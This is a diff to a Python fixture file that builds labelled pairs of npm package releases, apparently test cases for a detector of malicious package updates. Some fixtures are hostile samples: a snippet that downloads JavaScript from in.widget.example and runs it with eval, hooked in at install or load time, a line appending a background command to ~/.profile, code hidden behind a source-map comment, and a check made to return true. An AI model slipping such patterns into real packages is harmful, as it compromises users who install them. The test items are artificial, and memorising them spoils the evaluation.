@@ -13,6 +13,7 @@ class Row:
     about: str
     old: dict
     new: dict
+    least: str = ""  # the verdict that it has to reach, where that is asked for
 
 
 ROWS = []
@@ -49,7 +50,7 @@ def release(version, files, **more):
     return dict({"package.json": package(version, **more), "README.md": "# sample-tool\n", "index.js": MAIN, "lib/tool.js": TOOL}, **files)
 
 
-def row(number, fires, about, new, old=None, new_package=None, old_package=None):
+def row(number, fires, about, new, old=None, new_package=None, old_package=None, least=""):
     """Adds a change: what is new on top of the base in both."""
     old_files, new_files = dict(old or {}), dict(old or {})
     new_files.update(new)
@@ -57,7 +58,7 @@ def row(number, fires, about, new, old=None, new_package=None, old_package=None)
         for name in [n for n, text in files.items() if text is None]:
             del files[name]
     ROWS.append(Row("AS-%04d" % number, fires, about, release("1.0.0", old_files, **(old_package or {})),
-                    release("1.0.1", new_files, **(new_package if new_package is not None else old_package or {}))))
+                    release("1.0.1", new_files, **(new_package if new_package is not None else old_package or {})), least))
 
 
 def fires(number, about, code, **more):
@@ -215,3 +216,42 @@ row(1, False, "one more file loads what was in use", {"index.js": MAIN + "requir
 
 innocent(17, "a host of the product", "exports.status = () => require('https').get('https://status.tool.example/v1');\n")
 innocent(19, "the machine itself", "exports.local = 'http://127.0.0.1:8080/';\n")
+
+# ---- what stands aside ----------------------------------------------------------------------------
+
+MADE = "const fs = require('fs');\nfs.writeFileSync('/tmp/tool-run.sh', '#!/bin/sh\\necho ready\\n');\nfs.chmodSync('/tmp/tool-run.sh', '0755');\n"
+PAGE = "<html><body><script>\nvar s = document.createElement('script');\ns.src = 'https://widgets.chat.example/all.js';\ndocument.body.appendChild(s);\n</script></body></html>\n"
+BEACON = "require('https').get('https://in.widget.example/i.js', (r) => { let t = ''; r.on('data', (d) => { t += d; }); r.on('end', () => eval(t)); });\n"
+row(10, False, "a test makes a program to find", {"test/basic.js": MADE})
+row(42, False, "a page of the documentation has a widget", {"docs/index.html": PAGE})
+row(42, True, "a test that the library loads from now on", {"test/support/warm.js": BEACON, "index.js": MAIN + "require('./test/support/warm');\n"}, least="review")
+row(42, True, "a test that runs at installation", {"test/support/warm.js": BEACON}, new_package={"scripts": {"postinstall": "node test/support/warm.js"}}, least="review")
+row(42, True, "a test that the manifest makes the entry", {"test/support/warm.js": BEACON}, new_package={"main": "test/support/warm.js"}, least="review")
+
+# ---- what reads like something else ---------------------------------------------------------------
+
+MAPPED = "exports.one = function () {\n  return 1;\n};\n%s//# sourceMappingURL=out.js.map\n"
+ADDED = "exports.two = function (list) {\n  const all = [];\n  for (const one of list) {\n    all.push(exports.one(one), one);\n  }\n  return all;\n};\n"
+row(13, False, "a compiler's output ends in its mark as before", {"lib/out.js": MAPPED % ADDED}, old={"lib/out.js": MAPPED % ""})
+row(13, True, "code behind a compiler's mark", {"lib/out.js": MAPPED % "" + ADDED}, old={"lib/out.js": MAPPED % ""})
+row(20, False, "a file that is called profile", {"lib/debug.js": "const fs = require('fs');\nclass Debug {\n  send(data) {\n    fs.writeFile(`profile-${this.start}-${this.profileIndex++}.json`, JSON.stringify(data), () => {});\n  }\n}\nexports.Debug = Debug;\n"})
+row(20, True, "a file that shells start with", {"lib/debug.js": "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.profile', 'node /tmp/tool.js &');\n"})
+CLIENT = "class Client {\n  build(payload, key) {\n    return { payload, key };\n  }\n%s}\nexports.Client = Client;\n"
+row(30, False, "a method that did not verify is gone", {"lib/client.js": CLIENT % ""},
+    old={"lib/client.js": CLIENT % "  constructEventWithoutVerification(payload) {\n    return JSON.parse(payload);\n  }\n"})
+row(30, False, "another way to write an address", {"lib/client.js": CLIENT % "  address(a) {\n    return a.text;\n  }\n"},
+    old={"lib/client.js": CLIENT % "  address(a) {\n    return toChecksumAddress(a.text);\n  }\n"})
+TYPED = "export const sanitizeElement = function (node: Node, root: Node): boolean {\n  prepare(node, root);\n%s  return walk(node);\n};\n"
+row(30, False, "a check that asks one thing more", {"lib/clean.ts": TYPED % "  if (detached(node, root)) {\n    return true;\n  }\n"}, old={"lib/clean.ts": TYPED % ""})
+row(30, True, "a check that says yes at once", {"lib/clean.ts": "export const verifyElement = function (node: Node): boolean {\n  return true;\n  return walk(node);\n};\n"},
+    old={"lib/clean.ts": "export const verifyElement = function (node: Node): boolean {\n  return walk(node);\n};\n"})
+row(21, False, "a release tool that passed its arguments otherwise", {"lib/push.js": "const execa = require('execa');\nexports.push = () => execa('git', ['push', '--follow-tags']);\n"},
+    old={"lib/main.js": "const execa = require('execa');\nexports.all = () => execa('git', ['push', '--tags']);\n"})
+row(24, False, "a dependency that the manifest's own map leads to", {}, new_package={"dependencies": {"bare-sample": "^1.0.0"}, "imports": {"#assert": {"bare": "bare-sample", "default": "assert"}}})
+row(24, False, "a dependency that everybody knows", {}, new_package={"dependencies": {"async": "^1.5.2"}})
+row(26, False, "the same address by https", {}, old_package={"dependencies": {"left": "http://get.widget.example/left.tgz"}}, new_package={"dependencies": {"left": "https://get.widget.example/left.tgz"}})
+WRAPPED = "exports.watch = function (done) {\n  const before = window.fetch;\n  window.fetch = function (url, more) {\n%s    return before.call(window, url, more);\n  };\n};\n"
+row(23, True, "a function of the page is replaced", {"lib/watch.js": WRAPPED % "    done(url);\n"})
+row(23, False, "a function of the page that was replaced before", {"lib/watch-all.js": WRAPPED % "    done(url, Date.now());\n"}, old={"lib/watch.js": WRAPPED % "    done(url);\n"})
+SCRIPT = "exports.load = function (mode) {\n  const s = document.createElement('script');\n  s.src = 'https://stats.tool.example/%s.js';\n%s  document.head.appendChild(s);\n};\n"
+row(42, False, "a script of a host that was named before", {"lib/stats.js": SCRIPT % ("v2", "  s.dataset.mode = mode;\n")}, old={"lib/stats.js": SCRIPT % ("v1", "")})
